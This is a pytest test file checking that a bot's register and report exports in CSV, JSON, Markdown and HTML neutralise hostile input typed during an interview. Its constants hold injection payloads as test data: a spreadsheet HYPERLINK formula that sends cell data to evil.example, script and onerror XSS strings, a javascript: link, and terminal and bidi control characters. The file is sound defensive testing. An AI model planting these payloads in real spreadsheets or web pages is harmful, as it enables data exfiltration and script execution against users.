"""Exports that escape for their format: hostile names, purposes and comments typed in a real interview.

CSV cells never start a formula; Markdown shows every character as typed and builds no markup of the
agent's (checked by rendering it with a CommonMark parser that lets raw HTML through); HTML stays
escaped; and no export carries control characters (terminal escapes, NUL, bidirectional overrides).
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from markdown_it import MarkdownIt

from bot.audit import head
from bot.register import entries, export
from bot.report import build, to_html, to_markdown
from tests.helpers import Chat, submitted

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'
SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(2)>"
LINK = "[x](javascript:alert(1))"
CONTROLS = ("\x1b", "\x00", "\u202e", "\x07", "\r")
USES = [
    (FORMULA, f"{SCRIPT} puis {IMAGE} et {LINK} pour finir."),
    ("```", "line\n# heading\n- item\n1. numbered\n> quote\n---\n```\nswallowed?"),
    ("@SUM(1+1) \x1b[31mrouge\u202eevil\x00\x07", "-2+3 | pipe ~~barré~~ *em* _u_ $x$ &amp; \\ `code` fin\r\nsuite"),
]
COMMENT = f"{IMAGE} ``` {LINK}\n# titre"


async def hostile_register(app) -> list[int]:
    numbers = []
    for name, purpose in USES:
        user = f"console:agent{len(numbers)}"
        n = await submitted(Chat(app, user=user), {"ctx_name": name, "ctx_purpose": purpose})
        await Chat(app).say(f"réserves {n} {COMMENT}", user="console:nr")
        numbers.append(n)
    return numbers


def commonmark() -> MarkdownIt:
    """A renderer as permissive as many: raw HTML allowed, GitHub tables and strikethrough on."""
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def assert_visible(text: str) -> None:
    for control in CONTROLS:
        assert control not in text, repr(control)


def assert_inert(rendered: str) -> None:
    """Nothing in the rendered Markdown that the agent's text built."""
    assert "<script" not in rendered and "<img" not in rendered
    assert "<a " not in rendered and "javascript:alert(1)" in rendered  # shown as text, not as a link
    assert "<pre" not in rendered and "<code" not in rendered
    assert "<blockquote" not in rendered and "<hr" not in rendered
    assert "<em>em</em>" not in rendered and "<em>u</em>" not in rendered
    assert "<s>barré" not in rendered and "<del>barré" not in rendered


async def test_csv_cells_never_start_a_formula_and_carry_no_control_character(app, clock):
    await hostile_register(app)
    items = await entries(app.db, app.questionnaire, app.config, internal=True)
    text = export(items, "csv", clock.now, head=await head(app.db))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert all(len(row) == len(rows[0]) for row in rows)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = [row[rows[0].index("Nom")] for row in rows[1:4]]
    assert names == [f"'{FORMULA}", "```", "'@SUM(1+1) [31mrougeevil"]
    assert rows[3][rows[0].index("Finalité")].startswith("'-2+3 | pipe")
    for cell in cells:
        assert_visible(cell)
    assert "suite" in rows[3][rows[0].index("Finalité")]


async def test_json_carries_the_text_without_control_characters(app, clock):
    await hostile_register(app)
    items = await entries(app.db, app.questionnaire, app.config, internal=True)
    data = json.loads(export(items, "json", clock.now, head=await head(app.db)))
    assert [e["name"] for e in data["entries"]] == [FORMULA, "```", "@SUM(1+1) [31mrougeevil"]
    assert data["entries"][0]["purpose"] == USES[0][1]  # JSON is data: the text as typed, minus controls
    assert data["entries"][2]["purpose"].endswith("fin\nsuite")

    def walk(value: object) -> None:
        if isinstance(value, str):
            assert_visible(value)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)
    walk(data)


async def test_markdown_register_builds_no_markup_from_the_text(app, clock):
    numbers = await hostile_register(app)
    items = await entries(app.db, app.questionnaire, app.config, internal=True)
    md = export(items, "md", clock.now, head=await head(app.db))
    assert_visible(md)
    rendered = commonmark().render(md)
    assert_inert(rendered)
    assert rendered.count("<h1>") == 1 and rendered.count("<h2>") == len(numbers)
    assert rendered.count("<table>") == 1 + len(numbers)
    first_table = rendered.split("</table>")[0]
    assert first_table.count("<tr>") == 1 + len(numbers)  # the ``` name does not swallow the rows after it
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered and "# heading" in rendered
    assert "- item" in rendered and "1. numbered" in rendered and "&gt; quote" in rendered
    assert "~~barré~~ *em* _u_ $x$ &amp;amp; \\ `code`" in rendered
    assert "```" in rendered  # the fence shown as typed, in the heading and the table
    # every line of a multi-line purpose is kept, in its own place
    second = rendered.split("<h2>")[2]
    assert re.search(r"line<br />\s*# heading<br />\s*- item", second)


async def test_markdown_report_builds_no_markup_from_the_text(app, clock):
    numbers = await hostile_register(app)
    for n in numbers:
        async with app.db.reading() as tx:
            report = await build(tx, app.questionnaire, app.config, n)
        assert report is not None
        md = to_markdown(report)
        assert_visible(md)
        rendered = commonmark().render(md)
        assert_inert(rendered)
        assert rendered.count("<h1>") == 1
        assert rendered.count("<h2>") == 4  # criteria, answers, decisions, history
        assert "&lt;img src=x onerror=alert(2)&gt;" in rendered  # the reviewer's comment, as typed
        shown = sum(1 for c in report["criteria"] if c["number"] or c["reasons"])
        items = (6 + len(report["impact"]) + shown
                 + sum(len(c["reasons"]) for c in report["criteria"] if c["number"] or c["reasons"])
                 + len(report["answers"]) + len(report["decisions"]) + len(report["history"]))
        assert rendered.count("<li>") == items  # the six facts and the impact, then no item but the report's own


async def test_html_register_and_report_show_the_text_escaped(app, clock):
    numbers = await hostile_register(app)
    items = await entries(app.db, app.questionnaire, app.config)
    page = export(items, "html", clock.now, head=await head(app.db))
    async with app.db.reading() as tx:
        report = await build(tx, app.questionnaire, app.config, numbers[0])
    assert report is not None
    fiche = to_html(report, b"png")
    for document in (page, fiche):
        assert_visible(document)
        assert "<script" not in document and "<img src=x" not in document
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in document
        assert "&lt;img src=x onerror=alert(2)&gt;" in document
    assert 'href="javascript' not in page and "&#34;Cliquez&#34;" in page
    assert "[31mrougeevil" in page


@pytest.mark.parametrize(("raw", "shown"), [
    ("a\x00b\x1b[0mc\u202ed\u2066e\u200bf", "ab[0mcdef"),
    ("keep\ttab\nand newline\r\nCRLF", "keep\ttab\nand newline\nCRLF"),
    ("emoji 👩\u200d💻 stays joined", "emoji 👩\u200d💻 stays joined"),
    ("line\u2028separator", "line\nseparator"),
])
def test_visible_text(raw, shown):
    from bot.escaping import visible_text
    assert visible_text(raw) == shown


def test_visible_text_drops_exactly_the_control_format_and_surrogate_characters():
    import sys
    import unicodedata

    from bot.escaping import visible_text
    newlines = "\r\n\u2028\u2029\x85"
    dropped = [chr(cp) for cp in range(sys.maxunicode + 1) if chr(cp) not in newlines and not visible_text(chr(cp))]
    assert {unicodedata.category(c) for c in dropped} == {"Cc", "Cf", "Cs"}
    assert set("\t\u200c\u200d").isdisjoint(dropped)
    kept_hidden = [cp for cp in range(sys.maxunicode + 1) if chr(cp) not in newlines + "\t\u200c\u200d"
                   and unicodedata.category(chr(cp)) in ("Cc", "Cf", "Cs") and visible_text(chr(cp))]
    assert kept_hidden == []
